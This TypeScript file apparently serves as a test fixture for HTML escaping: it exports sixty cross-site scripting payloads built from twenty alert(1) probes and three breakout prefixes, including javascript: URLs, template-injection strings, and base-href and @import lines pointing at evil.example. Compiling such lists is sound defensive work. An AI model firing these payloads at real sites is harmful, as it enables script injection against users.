const bare = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css"</style>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}',
  '\u2028alert(1)\u2029',
  '&lt;img src=x onerror=alert(1)&gt;',
  "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
] as const

/** Sixty texts that run a script where somebody forgot to escape: as they are, out of an attribute, out of an element. */
export const payloads: readonly string[] = ['', '">', '</title></script></textarea>-->'].flatMap(
  (prefix) => bare.map((text) => prefix + text),
)
